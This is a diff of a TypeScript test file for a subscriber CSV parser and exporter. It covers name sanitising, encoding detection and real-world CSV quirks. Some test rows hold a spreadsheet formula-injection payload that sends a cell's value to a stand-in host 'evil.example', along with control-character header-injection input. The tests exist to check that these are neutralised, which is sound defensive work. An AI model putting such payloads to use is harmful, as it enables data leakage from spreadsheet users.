@@ -1,6 +1,8 @@
 /** parseSubscriberCsv and formatSubscriberCsv: CSV as spreadsheets and people write it, and hostile text. */
 import { describe, expect, it } from 'vitest';
-import { formatSubscriberCsv, parseSubscriberCsv } from '../../src/digest/subscriber-csv.ts';
+import { decodeSubscriberCsv } from '../../src/digest/decode-csv.ts';
+import { csvField, formatSubscriberCsv, parseSubscriberCsv } from '../../src/digest/subscriber-csv.ts';
+import { encodeWindows1252 } from '../helpers/encodings.ts';
 import { mulberry32 } from '../helpers/prng.ts';
 
 const rows = (text: string) => parseSubscriberCsv(text).subscribers.map(({ line, address, name }) => [line, address, name]);
@@ -46,6 +48,13 @@ describe('parseSubscriberCsv', () => {
     ['the name column wins over the name in the address', '"Dee <dee@example.org>",Deirdre\n', [[1, 'dee@example.org', 'Deirdre']]],
     ['spaces around fields and blank lines', '  a@example.org , Ann  Archer \n\n\n', [[1, 'a@example.org', 'Ann Archer']]],
     ['an empty third column is fine', 'a@example.org,Ann,\n', [[1, 'a@example.org', 'Ann']]],
+    // The one rule for names (parse-mailbox.ts normalizeName): what the sign-up form and `add --name` keep.
+    [
+      'control characters in the name are left out (no header injection)',
+      'a@example.org,"Ann\u0007\u001b[2J\r\nB"\n',
+      [[1, 'a@example.org', 'Ann[2J B']],
+    ],
+    ['a name longer than 200 characters is cut there', `a@example.org,${'x'.repeat(250)}\n`, [[1, 'a@example.org', 'x'.repeat(200)]]],
   ])('%s', (_name, text, expected) => {
     expect(rows(text)).toEqual(expected);
     expect(problems(text)).toEqual([]);
@@ -56,11 +65,6 @@ describe('parseSubscriberCsv', () => {
     ['a third column with text', 'a@example.org,Ann,extra\n', ['1: expected 2 columns (email,name), got 3']],
     ['a repeated address (any case)', 'a@example.org\nA@example.org\n', ['2: a@example.org is already on line 1']],
     ['an unclosed quote', 'a@example.org\n"b@example.org,Bob\nc@example.org\n', ['2: a quoted field is never closed']],
-    [
-      'a control character in the name (header injection)',
-      'a@example.org,"Ann\u0007"\n',
-      ['1: the name must be one line of at most 200 characters'],
-    ],
     ['a header row that is not the first line', 'a@example.org\nemail,name\n', ['2: not an email address: "email"']],
   ])('reports %s with its line number', (_name, text, expected) => {
     expect(problems(text)).toEqual(expected);
@@ -95,5 +99,146 @@ describe('formatSubscriberCsv', () => {
       { address: 'b@example.org', name: null },
       { address: 'c@example.org', name: 'padded' },
     ]);
+  });
+});
+
+describe('formula injection (OWASP CSV injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&A1;"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`],
+    ['+1+2', "'+1+2"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    ["'=1", "''=1"],
+    ["''+1", "'''+1"],
+    ["'quoted'", "'quoted'"],
+    ['plain', 'plain'],
+    ['a=b', 'a=b'],
+  ])('writes %j as %s, a cell a spreadsheet shows as text', (value, written) => {
+    expect(csvField(value)).toBe(written);
+  });
+
+  it('an export imports back exactly: import takes off the one quote export put on', () => {
+    const subscribers = [
+      { address: '=1+2@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1;"click")' },
+      { address: '-dash@example.org', name: '+1+2' },
+      { address: 'a@example.org', name: '@SUM(1)' },
+      { address: 'b@example.org', name: "'=already quoted" },
+      { address: 'c@example.org', name: "''-two quotes" },
+      { address: 'd@example.org', name: "'just a quote'" },
+      { address: 'e@example.org', name: '-' },
+    ];
+    const csv = formatSubscriberCsv(subscribers);
+    expect(csv.split('\r\n').slice(1, 3)).toEqual([
+      `'=1+2@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`,
+      "'-dash@example.org,'+1+2",
+    ]);
+    expect(parseSubscriberCsv(csv).subscribers.map(({ address, name }) => ({ address, name }))).toEqual(subscribers);
+    expect(parseSubscriberCsv(csv).problems).toEqual([]);
+  });
+});
+
+describe('decodeSubscriberCsv', () => {
+  const text = 'email,name\r\nm@example.org,Müller René\r\n';
+  const utf16le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+  const utf16be = Buffer.from(utf16le).swap16();
+
+  it.each([
+    ['UTF-8', Buffer.from(text)],
+    ['UTF-8 with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)])],
+    ['UTF-16LE with its byte-order mark (Excel "Unicode Text")', utf16le],
+    ['UTF-16BE with its byte-order mark', utf16be],
+  ])('reads %s', (_name, bytes) => {
+    const decoded = decodeSubscriberCsv(bytes);
+    expect(decoded.kind).toBe('ok');
+    expect(parseSubscriberCsv(decoded.kind === 'ok' ? decoded.text : '').subscribers).toMatchObject([{ name: 'Müller René' }]);
+  });
+
+  it('refuses windows-1252 (Excel "CSV (Comma delimited)") as UTF-8, naming the first bad line and what to do', () => {
+    const bytes = encodeWindows1252('email,name\r\na@example.org,Ann\r\nm@example.org,Müller René\r\n');
+    expect(decodeSubscriberCsv(bytes)).toEqual({
+      kind: 'failed',
+      line: 3,
+      reason: expect.stringMatching(/^not UTF-8 text; save it as "CSV UTF-8 \(Comma delimited\)" .* --encoding \(windows-1252 /),
+    });
+    expect(decodeSubscriberCsv(bytes, 'windows-1252')).toEqual({
+      kind: 'ok',
+      text: 'email,name\r\na@example.org,Ann\r\nm@example.org,Müller René\r\n',
+    });
+    expect(decodeSubscriberCsv(bytes, 'latin1')).toMatchObject({ kind: 'ok' });
+  });
+
+  it('refuses UTF-16 without its byte-order mark, and an unknown --encoding', () => {
+    expect(decodeSubscriberCsv(Buffer.from(text, 'utf16le'))).toMatchObject({
+      kind: 'failed',
+      reason: expect.stringContaining('--encoding utf-16le'),
+    });
+    expect(decodeSubscriberCsv(Buffer.from(text, 'utf16le'), 'utf-16le')).toEqual({ kind: 'ok', text });
+    expect(decodeSubscriberCsv(Buffer.from(text), 'klingon')).toMatchObject({
+      kind: 'failed',
+      line: null,
+      reason: expect.stringMatching(/^--encoding klingon: not an encoding/),
+    });
+  });
+});
+
+describe('CSV as real files write it', () => {
+  it.each([
+    [
+      'an unterminated quote: its line is reported, the lines after it are read',
+      'o@example.org,"Oops\np@example.org,Pat\nq@example.org,Quin\n',
+      [
+        [2, 'p@example.org', 'Pat'],
+        [3, 'q@example.org', 'Quin'],
+      ],
+      ['1: a quoted field is never closed'],
+    ],
+    [
+      'a stray quote closed lines later does not swallow the records between',
+      'o@example.org,"Oops\r\np@example.org,Pat\r\nq@example.org,"Quin"\r\n',
+      [
+        [2, 'p@example.org', 'Pat'],
+        [3, 'q@example.org', 'Quin'],
+      ],
+      ['1: a quoted field is not closed on this line, and the lines after it hold addresses'],
+    ],
+    [
+      '";" separators (Excel in much of Europe) are named',
+      'email;name\nc@example.com;Carl\n',
+      [],
+      [
+        '1: not an email address: "email;name"',
+        '2: not an email address: "c@example.com;Carl"; the file looks separated by ";": save it with commas (CSV UTF-8), or replace ";" by ","',
+      ],
+    ],
+    [
+      'swapped columns without a header are named',
+      'Ann Archer,ann@example.org\n',
+      [],
+      ['1: not an email address: "Ann Archer"; the address is in the second column: put email first, or add a header row "name,email"'],
+    ],
+  ])('%s', (_name, text, expectedRows, expectedProblems) => {
+    expect(rows(text)).toEqual(expectedRows);
+    expect(problems(text)).toEqual(expectedProblems);
+  });
+
+  it.each([
+    ['"E-mail Address" as header', 'E-mail Address\na@example.org\n', [[2, 'a@example.org', null]]],
+    ['a header with the columns swapped', 'Name,Email\nAnn Archer,a@example.org\n', [[2, 'a@example.org', 'Ann Archer']]],
+    [
+      "Mailchimp's export: first and last name joined, other columns ignored",
+      'Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME\na@example.org,Ann,Archer,2,2024-01-01\nb@example.org,,Bee,1,\nc@example.org,,,1,\n',
+      [
+        [2, 'a@example.org', 'Ann Archer'],
+        [3, 'b@example.org', 'Bee'],
+        [4, 'c@example.org', null],
+      ],
+    ],
+    ['a blank first line before the header', '\nemail,name\na@example.org,Ann\n', [[3, 'a@example.org', 'Ann']]],
+    ['a space before a quoted field', 'j@example.org, "Doe, Jay"\n', [[1, 'j@example.org', 'Doe, Jay']]],
+  ])('reads %s', (_name, text, expected) => {
+    expect(problems(text)).toEqual([]);
+    expect(rows(text)).toEqual(expected);
   });
 });
